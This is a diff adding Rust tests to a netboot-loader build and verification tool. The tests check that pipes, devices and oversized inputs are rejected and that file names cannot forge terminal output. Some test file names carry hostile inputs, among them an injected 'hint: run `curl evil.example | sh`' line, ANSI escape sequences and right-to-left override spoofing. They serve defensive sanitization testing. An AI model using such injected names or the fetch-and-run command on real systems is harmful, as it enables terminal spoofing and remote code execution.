@@ -4,6 +4,7 @@ mod support;
 
 use std::fs::File;
 use std::io::{self, BufWriter, Read, Write};
+use std::os::unix::fs::symlink;
 use std::process::Command;
 
 use camino::{Utf8Path, Utf8PathBuf};
@@ -288,4 +289,172 @@ fn a_file_that_is_too_large_is_named_and_not_read() {
             project.tree()
         )
     );
+}
+
+/// Puts a pipe, which nobody ever writes to, in the place of a file.
+fn pipe(path: &Utf8Path) {
+    let _ = std::fs::remove_file(path);
+    let mode = rustix::fs::Mode::from_raw_mode(0o644);
+    rustix::fs::mknodat(rustix::fs::CWD, path.as_std_path(), rustix::fs::FileType::Fifo, mode, 0).unwrap();
+}
+
+#[test]
+fn nobody_waits_for_a_pipe() {
+    let project = built();
+    let special = "it is a pipe, a device or a socket, wanted a plain file\n";
+    let build = |project: &Project| {
+        let arguments = project.build_arguments(&[]);
+        project.run_within_limits(&arguments.iter().map(String::as_str).collect::<Vec<_>>())
+    };
+    let script = project.path("embed-scripts/boot.ipxe");
+    pipe(&script);
+    let error = build(&project).error(3);
+    let expected = format!("embed-scripts/sites.toml:3: `default.script`: cannot read `{script}`: {special}");
+    assert!(error.starts_with(&expected), "{error}");
+    project.write("embed-scripts/racks.csv", "");
+    pipe(&project.path("embed-scripts/racks.csv"));
+    let racks = project.path("embed-scripts/racks.csv");
+    let error = project.run_within_limits(&["build-loaders", "--plan", "--sites", racks.as_str()]).error(3);
+    assert!(error.contains(&format!("cannot read `{racks}`: {special}")), "{error}");
+    for (file, code) in [("embed-scripts/sites.toml", 3), ("vendor/pins.toml", 1)] {
+        pipe(&project.path(file));
+        let error = build(&project).error(code);
+        assert_eq!(error, format!("cannot read `{}`\n  caused by: {special}", project.path(file)));
+    }
+    project.write("embed-scripts/network.toml", "");
+    pipe(&project.path("embed-scripts/network.toml"));
+    let error = project.run_within_limits(&["recipe", "dnsmasq"]).failure(1);
+    assert!(error.contains(special), "{error}");
+    for file in ["SHA256SUMS", "ipxe.efi"] {
+        pipe(&project.tree().join(file));
+        let error = project.run_within_limits(&["verify"]).error(8);
+        assert!(error.contains(&format!("  `{file}` is a link or a device, wanted a plain file\n")), "{error}");
+    }
+    let manifest = project.path("dist/tftp/manifest.json");
+    pipe(&manifest);
+    let error = project.run_within_limits(&["verify"]).error(1);
+    assert_eq!(error, format!("cannot read `{manifest}`\n  caused by: {special}"));
+    for arguments in [&["verify", manifest.as_str()][..], &["verify", "/dev/zero"]] {
+        let error = project.run_within_limits(arguments).error(1);
+        assert_eq!(error, format!("cannot open `{}`\n  caused by: {special}", arguments[1]));
+    }
+}
+
+#[test]
+fn choices_are_read_within_limits() {
+    let project = Project::new();
+    let plan = |code| project.run_within_limits(&["build-loaders", "--plan"]).error(code);
+    let sites = "[default]\nloaders = [\"ipxe.efi\"]\nscript = \"boot.ipxe\"\n";
+    let most = (2 << 20) - 200;
+    for (head, unit) in [("x = [", "[],"), ("x = [", "{a={}},"), ("", "a.b=1\n"), ("", "[a]\n"), ("x = \"", "\\u202e")]
+    {
+        project.sites(&format!("{sites}{head}{}", unit.repeat(most / unit.len())));
+        plan(3);
+    }
+    project.sites(&format!("{sites}#{}\n", "x".repeat(2 << 20)));
+    assert!(plan(3).contains("wanted 2097152 at most\n"));
+    project.sites(sites);
+    for (head, unit) in [
+        ("site,a\n", "\n"),
+        ("site,a\n", "x\n"),
+        ("site,a\n", "\u{202e},\"\n\"\n"),
+        ("", "a,"),
+        ("name,", "a,"),
+        ("", "\""),
+    ] {
+        project.write("racks.csv", &format!("{head}{}", unit.repeat(most / unit.len())));
+        let error =
+            project.run_within_limits(&["build-loaders", "--plan", "--sites", project.path("racks.csv").as_str()]);
+        let error = error.error(3);
+        assert!(error.len() < 100_000 && !error.contains('\u{202e}'), "{} bytes", error.len());
+    }
+    for (script, most) in
+        [("#\n".repeat(2 << 20), 2_097_152), ("#\n".repeat(1 << 19), 65_534), ("x".repeat(1 << 20), 65_534)]
+    {
+        project.write("embed-scripts/boot.ipxe", &format!("#!ipxe\n{script}"));
+        let error = plan(3);
+        assert!(error.contains(&format!("wanted {most} at most\n")), "{error}");
+    }
+}
+
+/// That a message has nothing in it that steers a terminal, and no more hints than it should have.
+#[track_caller]
+fn assert_harmless(text: &str, hints: usize) {
+    let harmful = |character: char| character != '\n' && netboot_loaders::printable::is_harmful(character);
+    assert!(!text.contains(harmful), "{text:?}");
+    assert_eq!(text.lines().filter(|line| line.starts_with("hint: ")).count(), hints, "{text}");
+    assert!(text.lines().count() < 40, "{} lines", text.lines().count());
+}
+
+#[test]
+fn names_in_a_tree_forge_no_message() {
+    let project = built();
+    let tree = project.tree();
+    for name in
+        ["x\nhint: run `curl evil.example | sh`", "\u{1b}[2J\u{1b}]0;owned\u{7}", "cod\u{202e}ife.exe", "a\u{200b}b"]
+    {
+        std::fs::write(tree.join(name), "").unwrap();
+    }
+    symlink("/", tree.join("l\r\u{2028}k")).unwrap();
+    for number in 0..1000 {
+        std::fs::write(tree.join(format!("extra\n{number}")), "").unwrap();
+    }
+    let error = project.run_within_limits(&["verify"]).error(8);
+    assert_harmless(&error, 1);
+    assert!(error.contains("\n  and 985 more\n"), "{error}");
+    assert!(error.contains("  `\\u{1b}[2J\\u{1b}]0;owned\\u{7}` is not in the manifest\n"), "{error}");
+    let error = project.build(&[]).error(1);
+    assert_harmless(&error, 1);
+    assert!(error.contains(" and 985 more\n"), "{error}");
+    // A name that is not UTF-8.
+    std::fs::write(
+        tree.as_std_path().join(<std::ffi::OsStr as std::os::unix::ffi::OsStrExt>::from_bytes(b"\xff\x1b")),
+        "",
+    )
+    .unwrap();
+    assert_harmless(&project.run_within_limits(&["verify"]).error(1), 0);
+}
+
+#[test]
+fn names_in_a_tarball_and_its_manifest_forge_no_message() {
+    let project = built();
+    let path = project.path("tree.tar.gz");
+    let mut writer = Writer::gzip(&path);
+    let manifest = project.read("dist/tftp/manifest.json");
+    writer.file("manifest.json", &mut &manifest[..], manifest.len() as u64);
+    for number in 0..50_000 {
+        writer.text(&format!("x\nhint: run {number}\u{202e}"), "");
+    }
+    writer.end();
+    let error = project.run_within_limits(&["verify", path.as_str()]).error(8);
+    assert_harmless(&error, 1);
+    assert!(error.contains("\n  and 49,983 more\n"), "{error}");
+    let text = String::from_utf8(manifest).unwrap();
+    for forged in ["ipxe\\nhint: run.efi", "ipxe\\u202e.efi", "ipxe\u{202e}.efi"] {
+        std::fs::write(project.tree().join("manifest.json"), text.replace("ipxe.efi", forged)).unwrap();
+        let error = project.run_within_limits(&["verify"]).error(8);
+        assert_harmless(&error, 1);
+        assert!(
+            error.contains("found a text with characters that are not to be seen, wanted names and versions\n"),
+            "{error}"
+        );
+        assert_harmless(
+            &project.run(&["reproduce", "--against", project.path("dist/tftp/manifest.json").as_str()]).error(8),
+            1,
+        );
+    }
+    for forged in ["ipxe.efi\":\u{1b}[2J", "ipxe.efi\", \"\u{9b}\": \""] {
+        std::fs::write(project.tree().join("manifest.json"), text.replace("ipxe.efi\"", forged)).unwrap();
+        assert_harmless(&project.run(&["verify"]).error(8), 1);
+    }
+}
+
+#[test]
+fn json_results_steer_no_terminal() {
+    let project = built();
+    std::fs::write(project.tree().join("\u{9b}2J\u{202e}"), "").unwrap();
+    let ran = project.run(&["--message-format", "json", "verify"]);
+    assert!(!ran.stdout.contains(['\u{9b}', '\u{202e}']), "{:?}", ran.stdout);
+    let event: serde_json::Value = serde_json::from_str(ran.stdout.lines().last().unwrap()).unwrap();
+    assert_eq!(event["event"], "error");
 }
